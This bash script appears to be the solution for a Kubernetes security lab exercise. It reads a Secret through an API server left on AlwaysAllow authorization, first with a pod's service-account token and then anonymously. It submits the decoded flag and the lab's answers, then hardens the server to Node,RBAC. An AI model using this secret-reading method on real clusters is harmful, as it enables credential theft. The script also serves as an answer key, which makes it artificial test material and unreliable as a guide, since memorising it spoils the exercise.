#!/usr/bin/env bash
# The front door: read a Secret with any pod's token, then with none, then shut both doors.
set -euo pipefail

vault=https://198.51.100.1:6443/api/v1/namespaces/default/secrets/vault
token=/var/run/secrets/kubernetes.io/serviceaccount/token

exploit() {
  gold=$(kubectl exec visitor -- attacker http "$vault" --token-file "$token" --plain |
    sed -n 's/.*"gold":"\([^"]*\)".*/\1/p' | base64 -d)
  # Once repaired, the vault is shut: what was earned stays earned.
  [ -n "$gold" ] || return 0
  minilab lab answer gold "$gold"
  minilab harden apiserver-access.authorization
  kubectl exec visitor -- attacker http "$vault" --plain | grep 'HTTP 200'
}

explain() {
  minilab lab answer who system:anonymous
  minilab lab answer numbers 403
  minilab lab answer hidden with AlwaysAllow the API server switches anonymous requests off by itself
}

harden() {
  minilab harden apiserver-access
}

by_hand() {
  minilab exec control -- sed -i 's/--authorization-mode=AlwaysAllow/--authorization-mode=Node,RBAC/' /etc/kubernetes/manifests/kube-apiserver.yaml
  for try in $(seq 100); do
    kubectl exec visitor -- attacker http "$vault" --token-file "$token" --plain | grep -q 'HTTP 403' && break
    sleep 0.2
  done
  kubectl delete clusterrolebinding minilab:anonymous --ignore-not-found
}

for part in "${@:-exploit explain harden}"; do
  for one in $part; do "$one"; done
done
